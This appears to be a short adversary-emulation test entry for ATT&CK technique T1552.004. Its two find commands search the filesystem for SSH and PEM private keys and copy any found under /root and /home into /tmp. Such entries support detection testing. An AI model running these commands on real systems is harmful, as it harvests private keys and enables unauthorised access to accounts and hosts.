# title: Private keys are looked for and copied
# technique: T1552.004
# needs: find

find / -xdev \( -name id_rsa -o -name id_ed25519 -o -name '*.pem' \) 2>/dev/null | head -5
find /root /home -name 'id_*' ! -name '*.pub' -exec cp {} /tmp/ ';'
